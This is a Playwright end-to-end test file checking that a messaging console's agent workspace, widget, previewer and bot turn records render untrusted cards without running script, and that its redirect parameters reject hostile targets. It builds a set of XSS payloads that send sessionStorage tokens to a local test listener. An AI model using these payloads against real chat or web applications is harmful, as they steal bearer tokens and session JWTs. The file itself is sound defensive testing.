// The console runs nothing it shows. Script-bearing content from an anonymous consumer, an
// agent and a bot function is shown in Chromium in the agent workspace, the consumer widget, the
// structured-content previewer and the bot's turn records; every payload would set the canary
// `window.pw` and send the page's sessionStorage (the agent's bearer, the consumer's JWT) to a
// listener on 127.0.0.1. The test clicks and hovers everything in the rendered cards, then
// asserts the canary is unset and the listener got nothing. Content the server refuses to store
// is also pushed into the page through its own WebSocket (Playwright's routeWebSocket), so the
// console's sanitising is tested on its own, as if the server had stored it.
//
//   PARLEY_BIN=build/default/src/app/parley node --test tests/e2e/xss.test.mjs

import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before, describe, test } from 'node:test';
import WebSocket from 'ws';
import { ensureWebBuilt, rest as restAt, shot, startBrowser, startServer } from './harness.mjs';

const T = 20000;

let server;
let browser;
let base;
let acc;
let listener;
let L; // the listener's origin
const hits = [];

const rest = (method, path, bearer, body) => restAt(base, method, path, bearer, body);
const v1 = (path) => `/api/v1/accounts/${acc}/${path}`;
const list = (v, k) => (Array.isArray(v) ? v : (v?.[k] ?? v?.items ?? []));

// The script every payload runs: sets the canary and sends sessionStorage to the listener.
const js = (tag) => `top.pw=1;fetch('${L}/${tag}?'+JSON.stringify(sessionStorage))`;

// Markup payloads (each short enough for a button title, 128 characters).
function markup(tag) {
  return [
    `<img src=x onerror="${js(tag + 'i')}">`,
    `<svg onload="${js(tag + 's')}"></svg>`,
    `<details open ontoggle="${js(tag + 'd')}">d</details>`,
    `<input autofocus onfocus="${js(tag + 'f')}">`,
    `<a href="javascript:${js(tag + 'a')}">link</a>`,
    `<b onmouseover="${js(tag + 'h')}">hover</b>`,
    `<iframe srcdoc="<script>${js(tag + 'r')}</script>"></iframe>`,
    `<video><source onerror="${js(tag + 'v')}"></video>`,
    `<div style="background-image:url(${L}/${tag}css)">css</div>`,
    `<img src="${L}/${tag}px">`,
    `<script>${js(tag + 'x')}</script>`,
    `<object data="javascript:${js(tag + 'o')}"></object>`,
    `<form action="${L}/${tag}form"><button>go</button></form>`,
  ];
}

// A JSON Pollock card the schema accepts: every markup payload in text, button title and
// subtitle and image caption.
function markupCard(tag) {
  const p = markup(tag);
  return {
    type: 'vertical',
    elements: [
      { type: 'text', text: p.join(' ') },
      ...p.map((x) => ({ type: 'button', title: x, subtitle: x, click: { actions: [{ type: 'publishText', text: 'ok' }] } })),
      ...p.map((x) => ({ type: 'image', url: 'https://example.invalid/a.png', caption: x })),
    ],
  };
}

// Cards the server refuses to store (script-capable URLs, CSS in colours, handler attributes).
function refusedCards(tag) {
  return [
    {
      type: 'vertical',
      elements: [
        { type: 'button', title: 'js link', click: { actions: [{ type: 'link', name: 'x', uri: `javascript:${js(tag + 'l')}` }] } },
        { type: 'button', title: 'web js link', click: { actions: [{ type: 'link', name: 'x', uri: 'https://example.invalid/', web: { uri: `javascript:${js(tag + 'w')}` } }] } },
        { type: 'button', title: 'data link', click: { actions: [{ type: 'link', name: 'x', uri: `data:text/html,<script>${js(tag + 'D')}</script>` }] } },
        { type: 'image', url: `javascript:${js(tag + 'I')}`, caption: 'js image' },
        { type: 'image', url: `${L}/${tag}img`, caption: 'http image to the listener' },
        { type: 'text', text: 'styled', style: { color: `red;background-image:url(${L}/${tag}color)`, 'background-color': `url(${L}/${tag}bg)` } },
        { type: 'button', title: 'styled button', style: { 'background-color': `red;background-image:url(${L}/${tag}btn)` }, click: { actions: [{ type: 'publishText', text: 'x' }] } },
        { type: 'text', text: 'a11y', accessibility: { web: { role: 'button', onclick: js(tag + 'A'), onmouseover: js(tag + 'M') } } },
      ],
    },
  ];
}

// Routes the page's messaging socket through the test: records what the server sends and lets
// the test push frames to the page as if the server had sent them.
async function tapSocket(page) {
  const tap = { frames: [], ws: null };
  await page.routeWebSocket(/\/ws_api\//, (ws) => {
    const srv = ws.connectToServer();
    srv.onMessage((m) => {
      tap.frames.push(String(m));
      ws.send(m);
    });
    tap.ws = ws;
  });
  return tap;
}

// Pushes `cards` to the page as RichContentEvents of `convId`, shaped like a real message
// notification the page received for that conversation (consumers get
// ms.MessagingEventNotification {changes:[record]}, agents .ams.ms.OnlineEventDistribution with
// the record as the body).
let fakeSeq = 9000;
async function inject(tap, convId, cards, role) {
  let proto;
  for (let i = 0; i < 200 && !proto; i++) {
    for (const f of tap.frames) {
      let m;
      try {
        m = JSON.parse(f);
      } catch {
        continue;
      }
      if (m.kind !== 'notification' || !m.body || typeof m.body !== 'object') continue;
      const ofConv = (r) => r && (r.dialogId ?? m.body.dialogId) === convId && r.event?.type === 'ContentEvent';
      if (Array.isArray(m.body.changes)) {
        const ch = m.body.changes.find(ofConv);
        if (ch) proto = { m, ch, inChanges: true };
      } else if (ofConv(m.body)) {
        proto = { m, ch: m.body, inChanges: false };
      }
    }
    if (!proto) await new Promise((r) => setTimeout(r, 100));
  }
  assert.ok(proto, `a message notification of ${convId} reached the page`);
  for (const card of cards) {
    const change = JSON.parse(JSON.stringify(proto.ch));
    change.sequence = fakeSeq++;
    change.event = { type: 'RichContentEvent', content: card };
    change.originatorMetadata = { ...(change.originatorMetadata ?? {}), role };
    const msg = JSON.parse(JSON.stringify(proto.m));
    if (proto.inChanges) msg.body.changes = [change];
    else msg.body = change;
    tap.ws.send(JSON.stringify(msg));
  }
}

// Hovers (mouse events, focus) every element inside `scope`, clicks every button, link and input
// there, and moves the real mouse over the "hover" payloads; then waits for what that may start.
async function poke(page, scope) {
  await page.evaluate((sel) => {
    for (const el of document.querySelectorAll(`${sel} *`)) {
      for (const type of ['mouseover', 'mouseenter', 'mousemove', 'focusin']) el.dispatchEvent(new MouseEvent(type, { bubbles: true }));
      if (typeof el.focus === 'function') el.focus();
    }
    for (const el of document.querySelectorAll(`${sel} a, ${sel} button, ${sel} input, ${sel} [role=button], ${sel} [onclick]`)) el.click();
  }, scope);
  const hovers = page.locator(`${scope} b`, { hasText: 'hover' });
  const n = Math.min(await hovers.count(), 8);
  for (let i = 0; i < n; i++) await hovers.nth(i).hover({ timeout: 1000 }).catch(() => {});
  await page.waitForTimeout(1500);
}

// The canary is unset and the listener got nothing since `since` (an index into hits).
async function assertInert(page, what, since = 0) {
  for (const p of page.context().pages()) {
    if (p !== page && !p.isClosed() && !/^(about:blank|https?:\/\/127\.0\.0\.1)/.test(p.url())) await p.close().catch(() => {});
  }
  const canary = await page.evaluate(() => window.pw);
  const got = hits.slice(since);
  const shown = got.slice(0, 6).map((h) => h.slice(0, 160));
  assert.equal(canary, undefined, `${what}: a payload ran in the page (window.pw = ${canary}); the listener got ${got.length} requests: ${JSON.stringify(shown)}`);
  assert.equal(got.length, 0, `${what}: the listener received ${got.length} requests: ${JSON.stringify(shown)}`);
}

async function uiLogin(page, who, next) {
  await page.goto(`${base}/login?account=${encodeURIComponent(acc)}&next=${encodeURIComponent(next)}`);
  await page.getByLabel('Account id').fill(acc);
  await page.getByLabel('Username').fill(who.username);
  await page.getByLabel('Password').fill(who.password);
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.waitForURL((u) => !u.pathname.startsWith('/login'), { timeout: T });
}

// A protocol client on the plain-HTTP listener (consumer with a JWT, or agent with a bearer).
class Client {
  constructor(url, headers = {}) {
    this.ws = new WebSocket(url, { headers });
    this.next = 1;
    this.pending = new Map();
    this.ws.on('message', (d) => {
      const m = JSON.parse(String(d));
      if (m.kind === 'resp' && this.pending.has(String(m.reqId))) {
        this.pending.get(String(m.reqId))(m);
        this.pending.delete(String(m.reqId));
      }
    });
  }
  open() {
    return new Promise((resolve, reject) => {
      this.ws.once('open', resolve);
      this.ws.once('error', reject);
    });
  }
  request(type, body) {
    const id = String(this.next++);
    return new Promise((resolve, reject) => {
      const t = setTimeout(() => reject(new Error(`no answer to ${type}`)), 10000);
      this.pending.set(id, (m) => {
        clearTimeout(t);
        resolve(m);
      });
      this.ws.send(JSON.stringify({ kind: 'req', id, type, body }));
    });
  }
  close() {
    this.ws.close();
  }
}

before(async () => {
  ensureWebBuilt();
  listener = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
    res.end();
  });
  await new Promise((r) => listener.listen(0, '127.0.0.1', r));
  L = `http://127.0.0.1:${listener.address().port}`;
  server = await startServer();
  base = server.listening.http;
  acc = server.demo.account;
  browser = await startBrowser();
});

after(async () => {
  await browser?.close();
  await server?.stop();
  await new Promise((r) => listener?.close(r));
});

describe('the console runs nothing it shows', () => {
  let convId;
  let consumerJwt;
  let widget;
  let widgetTap;
  let agentPage;
  let agentTap;

  test('agent workspace: a consumer\'s messages and cards', async () => {
    const since = hits.length;
    widget = await browser.ctx.newPage();
    widgetTap = await tapSocket(widget);
    await widget.goto(`${base}/widget?account=${encodeURIComponent(acc)}&skill=${encodeURIComponent(server.demo.skills.human)}`);
    await widget.locator('.conn-status[data-state="open"]').waitFor({ timeout: T });
    await widget.getByRole('textbox', { name: 'Message' }).fill('hello');
    await widget.getByRole('button', { name: 'Send' }).click();
    await widget.locator('.bubble.mine', { hasText: 'hello' }).waitFor({ timeout: T });
    consumerJwt = await widget.evaluate((a) => sessionStorage.getItem(`parley.consumer.${a}`), acc);
    assert.ok(consumerJwt, 'the widget signed up');
    const sub = JSON.parse(Buffer.from(consumerJwt.split('.')[1], 'base64url').toString()).sub;
    const admin = await rest('POST', `/api/account/${acc}/login?v=1.3`, null, server.demo.admin);
    const conv = list(await rest('GET', v1('conversations'), admin.bearer), 'conversations').find((c) => c.consumerId === sub && c.state === 'OPEN');
    assert.ok(conv, 'the widget opened a conversation');
    convId = conv.id;

    // The attacker: the same anonymous consumer on its own socket.
    const consumer = new Client(`${base.replace(/^http/, 'ws')}/ws_api/account/${acc}/messaging/consumer?v=3`, { Authorization: `jwt ${consumerJwt}` });
    await consumer.open();
    const text = await consumer.request('ms.PublishEvent', { dialogId: convId, event: { type: 'ContentEvent', contentType: 'text/plain', message: markup('ct').join(' ') } });
    assert.equal(text.code, 200, JSON.stringify(text));
    const card = await consumer.request('ms.PublishEvent', { dialogId: convId, event: { type: 'RichContentEvent', content: markupCard('cm') } });
    assert.equal(card.code, 200, `markup in text is valid JSON Pollock and stored: ${JSON.stringify(card)}`);
    const refused = [];
    for (const c of refusedCards('cr')) {
      const r = await consumer.request('ms.PublishEvent', { dialogId: convId, event: { type: 'RichContentEvent', content: c } });
      if (r.code !== 200) refused.push(c);
    }

    agentPage = await browser.ctx.newPage();
    agentTap = await tapSocket(agentPage);
    await uiLogin(agentPage, server.demo.agent, '/agent');
    await agentPage.locator('.conn-status[data-state="open"]').waitFor({ timeout: T });
    const item = agentPage.locator(`.queue-item[data-conv="${convId}"]`);
    await item.getByRole('button', { name: 'Accept' }).click({ timeout: 30000 });
    await agentPage.locator('.transcript .bubble', { hasText: 'hello' }).waitFor({ timeout: T });
    await agentPage.locator('.transcript .bubble-card .lp-json-pollock').first().waitFor({ timeout: T });
    // A live message (the history came in a QueryMessages answer), then what the server refused
    // is pushed into the page as if it had been stored.
    assert.equal((await consumer.request('ms.PublishEvent', { dialogId: convId, event: { type: 'ContentEvent', contentType: 'text/plain', message: 'ping' } })).code, 200);
    await agentPage.locator('.transcript .bubble', { hasText: 'ping' }).waitFor({ timeout: T });
    consumer.close();
    if (refused.length) {
      await inject(agentTap, convId, refused, 'CONSUMER');
      await agentPage.locator('.transcript .bubble-card .lp-json-pollock').nth(refused.length).waitFor({ timeout: T });
    }
    await shot(agentPage, 'xss-agent');
    await poke(agentPage, '.transcript');
    await assertInert(agentPage, 'agent workspace', since);
    // The content is still shown, as text.
    assert.match(await agentPage.locator('.transcript').innerText(), /hover/);
  });

  test('consumer widget: an agent\'s cards', async () => {
    const since = hits.length;
    assert.ok(convId, 'the previous test opened the conversation');
    const login = await rest('POST', `/api/account/${acc}/login?v=1.3`, null, server.demo.agent);
    const agent = new Client(`${base.replace(/^http/, 'ws')}/ws_api/account/${acc}/messaging/brand/${encodeURIComponent(login.bearer)}?v=2.1`);
    await agent.open();
    const text = await agent.request('.ams.ms.PublishEvent', { dialogId: convId, event: { type: 'ContentEvent', contentType: 'text/plain', message: markup('at').join(' ') } });
    assert.equal(text.code, 200, JSON.stringify(text));
    const card = await agent.request('.ams.ms.PublishEvent', { dialogId: convId, event: { type: 'RichContentEvent', content: markupCard('am') } });
    assert.equal(card.code, 200, JSON.stringify(card));
    const refused = [];
    for (const c of refusedCards('ar')) {
      const r = await agent.request('.ams.ms.PublishEvent', { dialogId: convId, event: { type: 'RichContentEvent', content: c } });
      if (r.code !== 200) refused.push(c);
    }
    agent.close();
    await widget.locator('.bubble.theirs .bubble-card .lp-json-pollock').first().waitFor({ timeout: T });
    if (refused.length) {
      await inject(widgetTap, convId, refused, 'ASSIGNED_AGENT');
      await widget.locator('.bubble.theirs .bubble-card .lp-json-pollock').nth(refused.length).waitFor({ timeout: T });
    }
    await shot(widget, 'xss-widget');
    await poke(widget, '.transcript');
    await assertInert(widget, 'consumer widget', since);
    await assertInert(agentPage, 'agent workspace, after the agent\'s cards', since);
  });

  test('structured-content previewer', async () => {
    // The conversation's pages are done; closed so that nothing they do counts here.
    await widget?.close();
    await agentPage?.close();
    const since = hits.length;
    const page = await browser.ctx.newPage();
    await uiLogin(page, server.demo.admin, '/richcontent');
    const editor = page.locator('[data-editor="sc"] .cm-content');
    await editor.waitFor({ timeout: T });
    const preview = async (card) => {
      await editor.click();
      await page.keyboard.press('Control+A');
      await page.keyboard.insertText(JSON.stringify(card));
      await page.getByRole('button', { name: 'Validate and preview' }).click();
      await page.locator('.sc-preview .lp-json-pollock').waitFor({ timeout: T });
      await poke(page, '.sc-preview');
    };
    // Valid for the server: markup in text.
    await preview(markupCard('pm'));
    await shot(page, 'xss-previewer');
    await assertInert(page, 'previewer', since);
    // A validator that said yes to anything: the previewer alone must hold.
    await page.route('**/richcontent/validate', (route) => route.fulfill({ status: 200, contentType: 'application/json', body: '{"valid":true,"errors":[]}' }));
    for (const c of refusedCards('pr')) await preview(c);
    await assertInert(page, 'previewer with every card called valid', since);
    await page.close();
  });

  test('bot turn records', async () => {
    const since = hits.length;
    const admin = await rest('POST', `/api/account/${acc}/login?v=1.3`, null, server.demo.admin);
    const p = markup('bt');
    const code = `function lambda(input, callback) {
  callback(null, { messages: [${JSON.stringify(p.join(' '))}, { structuredContent: ${JSON.stringify(markupCard('bc'))} }],
    context: { intentId: ${JSON.stringify(p[0])}, intentName: ${JSON.stringify(p[1])}, confidenceScore: 0.5 } });
}`;
    const fn = await rest('POST', v1('functions'), admin.bearer, { name: `xss_${Date.now() % 100000}`, description: p[0], event: 'bot_connectors_custom_integration', code });
    await rest('POST', v1(`functions/${fn.uuid}/deploy`), admin.bearer, {});
    for (let i = 0; i < 300; i++) {
      const f = await rest('GET', v1(`functions/${fn.uuid}`), admin.bearer);
      if (f.state === 'Productive') break;
      assert.ok(!/error|fail/i.test(f.state), `deploy: ${f.state}`);
      await new Promise((r) => setTimeout(r, 200));
    }
    const skill = await rest('POST', v1('skills'), admin.bearer, { name: `xss-bot-${Date.now() % 100000}` });
    const bot = await rest('POST', v1('bots'), admin.bearer, {
      name: 'xss bot', vendor: 'CUSTOM_INTEGRATION', functionUuid: fn.uuid, conversationTypes: ['MESSAGING'],
      skills: [skill.name], disclaimerAccepted: true,
      escalation: { skill: 'escalation', message: 'Escalating.', retries: 0, turnTimeoutMs: 10000 },
    });
    await rest('POST', v1(`bots/${bot.id}/start`), admin.bearer, {});
    // A consumer talks to it with markup of its own.
    const { jwt } = await rest('POST', `/api/account/${acc}/signup`, null, {});
    const consumer = new Client(`${base.replace(/^http/, 'ws')}/ws_api/account/${acc}/messaging/consumer?v=3`, { Authorization: `jwt ${jwt}` });
    await consumer.open();
    const created = await consumer.request('cm.ConsumerRequestConversation', { skillId: skill.id, channelType: 'MESSAGING', ttrDefName: 'NORMAL' });
    assert.equal(created.code, 200, JSON.stringify(created));
    await consumer.request('ms.SubscribeMessagingEvents', { dialogId: created.body.conversationId, fromSeq: 0 });
    const sent = await consumer.request('ms.PublishEvent', { dialogId: created.body.conversationId, event: { type: 'ContentEvent', contentType: 'text/plain', message: markup('bi').join(' ') } });
    assert.equal(sent.code, 200);
    let turns = [];
    for (let i = 0; i < 150 && !turns.length; i++) {
      turns = list(await rest('GET', v1(`bots/${bot.id}/turns`), admin.bearer), 'turns');
      if (!turns.length) await new Promise((r) => setTimeout(r, 200));
    }
    consumer.close();
    assert.ok(turns.length, 'the bot took a turn');

    const page = await browser.ctx.newPage();
    await uiLogin(page, server.demo.admin, `/bots/${bot.id}`);
    await page.locator('.turns .turn').first().waitFor({ timeout: T });
    for (const s of await page.locator('.turns summary').all()) await s.click();
    await shot(page, 'xss-turns');
    await poke(page, '.turns');
    await assertInert(page, 'turn records', since);
    assert.match(await page.locator('.turns').innerText(), /onerror/, 'the payload is shown as text');
    await page.close();
  });

  test('?return= and ?next= accept only paths of the console', async () => {
    const since = hits.length;
    const page = await browser.ctx.newPage();
    await uiLogin(page, server.demo.admin, '/functions');
    const admin = await rest('POST', `/api/account/${acc}/login?v=1.3`, null, server.demo.admin);
    const fn = list(await rest('GET', v1('functions'), admin.bearer), 'functions')[0];
    assert.ok(fn, 'a function exists');
    for (const bad of [`javascript:${js('rj')}`, ` JavaScript:${js('rk')}`, '//127.0.0.1:1/x', '/\\127.0.0.1:1/x', `${L}/rx`, `data:text/html,<script>${js('rd')}</script>`]) {
      await page.goto(`${base}/functions/new?return=${encodeURIComponent(bad)}`);
      const cancel = page.getByRole('link', { name: 'Cancel' });
      await cancel.waitFor({ timeout: T });
      assert.equal(await cancel.getAttribute('href'), '/functions', `Cancel for return=${bad}`);
      await cancel.click();
      await page.waitForURL((u) => u.pathname === '/functions', { timeout: T });
      await page.goto(`${base}/functions/${fn.uuid}?return=${encodeURIComponent(bad)}`);
      await page.getByRole('link', { name: 'All functions' }).waitFor({ timeout: T });
      assert.equal(await page.getByRole('link', { name: 'Back to bot' }).count(), 0, `no Back to bot link for return=${bad}`);
      for (const href of await page.locator('a[href]').evaluateAll((as) => as.map((a) => a.getAttribute('href')))) {
        assert.ok(/^(\/|#|https?:)/.test(href), `link ${href} for return=${bad}`);
      }
    }
    // A real path still works.
    await page.goto(`${base}/functions/new?return=${encodeURIComponent('/bots/new')}`);
    assert.equal(await page.getByRole('link', { name: 'Cancel' }).getAttribute('href'), '/bots/new');
    // Login's next= too.
    const p2 = await browser.ctx.newPage();
    await uiLogin(p2, server.demo.admin, `javascript:${js('nj')}`);
    assert.ok(new URL(p2.url()).origin === base, p2.url());
    await assertInert(page, 'return targets', since);
    await assertInert(p2, 'next target', since);
    await page.close();
    await p2.close();
  });
});
